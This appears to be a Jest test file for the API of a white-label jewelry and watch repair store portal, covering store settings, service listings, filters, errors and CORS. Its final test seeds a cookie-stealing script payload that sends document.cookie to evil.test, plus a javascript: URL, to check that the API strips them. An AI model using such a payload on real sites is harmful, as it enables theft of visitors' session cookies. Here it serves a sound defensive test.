import { type Json, type TestApi, createTestApi } from './helpers';

let api: TestApi;
beforeAll(async () => {
  api = await createTestApi();
});
afterAll(() => api.close());

const get = (url: string) =>
  api.request({ method: 'GET', url: `/api/v1${url}` });

it('health', async () => {
  expect(await get('/health')).toEqual({
    status: 200,
    body: { status: 'ok', database: 'ok' },
  });
});

it('unknown routes → 404 NOT_FOUND in the error format', async () => {
  const res = await get('/nope');
  expect(res.status).toBe(404);
  expect(res.body).toEqual({
    code: 'NOT_FOUND',
    message: expect.any(String),
    errors: {},
  });
});

describe('white-label-settings and store-settings', () => {
  it('white-label settings of an active store', async () => {
    const res = await get('/white-label-settings?store_url=acme.localhost');
    expect(res.status).toBe(200);
    expect(Object.keys(res.body).sort()).toEqual(
      [
        'ada_script',
        'bold_font_family_url',
        'favicon',
        'font_style',
        'google_analytics_script',
        'google_tag_script',
        'is_custom_font_style',
        'is_own_font',
        'italic_font_family_url',
        'logo',
        'regular_font_family_url',
      ].sort(),
    );
    expect(res.body.logo).toMatch(/^data:image\/svg\+xml/);
  });

  it('store settings with each store its own colours', async () => {
    const acme = await get('/store-settings?store_url=acme.localhost');
    const globex = await get('/store-settings?store_url=GLOBEX.localhost:3000');
    expect(acme.status).toBe(200);
    expect(acme.body).toMatchObject({
      store_id: 1,
      button_color: '#8a5a00',
      background_color: '#fffaf0',
      top_bar_text: expect.any(String),
      top_up_amount: '25.00',
      is_active: true,
      store: {
        name: 'Acme Jewelers',
        first_name: 'Olivia',
        website_url: null,
      },
    });
    expect(globex.body.store_id).toBe(2);
    expect(globex.body.button_color).not.toBe(acme.body.button_color);
    for (const colour of [
      'background_color',
      'border_color',
      'button_color',
      'button_hover_color',
      'button_hover_font_color',
      'font_color',
      'top_bar_color',
    ]) {
      expect(acme.body[colour]).toMatch(/^#[0-9a-f]{6}$/);
    }
  });

  it('store settings say whether the store offers order tracking', async () => {
    const acme = await get('/store-settings?store_url=acme.localhost');
    const globex = await get('/store-settings?store_url=globex.localhost');
    expect(acme.body.is_order_tracking_enabled).toBe(true);
    expect(globex.body.is_order_tracking_enabled).toBe(false);
  });

  it.each(['white-label-settings', 'store-settings'])(
    '%s: unknown → 404 STORE.NOT_FOUND, inactive → 403 STORE.INACTIVE',
    async (path) => {
      const missing = await get(`/${path}?store_url=nobody.localhost`);
      expect(missing.status).toBe(404);
      expect(missing.body).toEqual({
        code: 'STORE.NOT_FOUND',
        message: expect.any(String),
        errors: {},
      });
      const inactive = await get(`/${path}?store_url=initech.localhost`);
      expect(inactive.status).toBe(403);
      expect(inactive.body).toEqual({
        code: 'STORE.INACTIVE',
        message: expect.any(String),
        errors: {},
      });
    },
  );

  it('a missing store_url → 400', async () => {
    const res = await get('/store-settings');
    expect(res.status).toBe(400);
    expect(res.body.errors).toEqual({ store_url: 'This field is required.' });
  });
});

describe('portal services', () => {
  const list = (query = '', store = 1) =>
    get(
      `/stores/${store}/portal-services?is_customer_side=true&is_partial=true${query}`,
    );

  it('lists only active services of the store, with its categories', async () => {
    const res = await list();
    expect(res.status).toBe(200);
    const ids = res.body.results
      .map((s: Json) => s.id)
      .sort((a: number, b: number) => a - b);
    expect(ids).toEqual([1, 2, 3, 4, 5, 6]); // 7 is inactive; 8 and 9 belong to other stores
    expect(res.body.categories).toEqual([
      { id: 1, name: 'Jewelry Repair' },
      { id: 2, name: 'Watch Service' },
    ]);
    expect(res.body.results.find((s: Json) => s.id === 5)).toEqual({
      id: 5,
      name: 'Watch Battery Replacement',
      description: expect.any(String),
      price: '12.50',
      // a guest: no price list
      list_price: null,
      image: null,
      category: { id: 2, name: 'Watch Service' },
      item_tag: 'Watch',
      top_level_tag: 'Watches',
    });
  });

  it.each([
    ['&item_tag=Ring', [1, 2, 3]],
    ['&top_level_tag=Watches', [5, 6]],
    ['&search=battery', [5]],
    ['&search=SIZING', [1]],
    ['&search=ring', [1, 4]], // Ring Sizing, Chain Soldering
    ['&item_tag=Ring&search=stone', [2, 3]],
    ['&item_tag=ring&top_level_tag=Watches', []],
    ['&search=100%25', []],
    ['&search=Initech', []],
  ])('filters %s', async (query, ids) => {
    const res = await list(query);
    expect(res.status).toBe(200);
    expect(
      res.body.results
        .map((s: Json) => s.id)
        .sort((a: number, b: number) => a - b),
    ).toEqual(ids);
  });

  it('does not list the services of an inactive store (Initech)', async () => {
    const res = await list('', 3);
    expect(res.status).toBe(403);
    expect(res.body.code).toBe('STORE.INACTIVE');
    expect((await list('', 99)).body.code).toBe('STORE.NOT_FOUND');
  });

  it('detail with options sorted by sequence; other stores and inactive → 404', async () => {
    const res = await get('/stores/1/portal-services/1');
    expect(res.status).toBe(200);
    expect(res.body.options.map((o: Json) => o.sequence)).toEqual([
      1, 2, 3, 4, 5,
    ]);
    expect(Object.keys(res.body.options[0]).sort()).toEqual(
      [
        'id',
        'tag',
        'label',
        'sequence',
        'values',
        'is_required',
        'is_option_cost',
        'is_metal_type',
        'instructions',
        'infoTooltip',
        'image',
        'otherOption',
        'validation',
        'parameters',
        'allowed_url_parameter',
        'meta_data',
        'advance_option_meta_data',
        'logics',
      ].sort(),
    );
    expect((await get('/stores/1/portal-services/8')).status).toBe(404);
    expect((await get('/stores/1/portal-services/7')).status).toBe(404);
    expect((await get('/stores/1/portal-services/0')).status).toBe(400);
  });

  it('service and item categories per store', async () => {
    expect((await get('/service-categories/store/2')).body).toEqual([
      { id: 3, name: 'Cleaning' },
    ]);
    expect(
      (await get('/item-categories/store/1')).body.map((c: Json) => c.name),
    ).toEqual(['Necklace', 'Ring', 'Watch']);
    expect((await get('/item-categories/store/99')).status).toBe(404);
  });
});

it('answers CORS for the remote dev servers', async () => {
  const res = await api.app.inject({
    method: 'OPTIONS',
    url: '/api/v1/health',
    headers: {
      origin: 'http://localhost:3002',
      'access-control-request-method': 'GET',
    },
  });
  expect(res.statusCode).toBe(204);
  expect(res.headers['access-control-allow-origin']).toBe(
    'http://localhost:3002',
  );
});

it('answers only http(s) URLs for the store scripts: markup and javascript: are dropped (CSP)', async () => {
  await api.db.query(
    `UPDATE stores SET ada_script = $1, google_analytics_script = $2, google_tag_script = $3 WHERE id = 1`,
    [
      ' https://static.ada.support/embed2.js ',
      '<script>fetch("https://evil.test/?c=" + document.cookie)</script>',
      'javascript:alert(1)',
    ],
  );
  const res = await get('/white-label-settings?store_url=acme.localhost');
  expect(res.status).toBe(200);
  expect(res.body).toMatchObject({
    ada_script: 'https://static.ada.support/embed2.js',
    google_analytics_script: null,
    google_tag_script: null,
  });
});
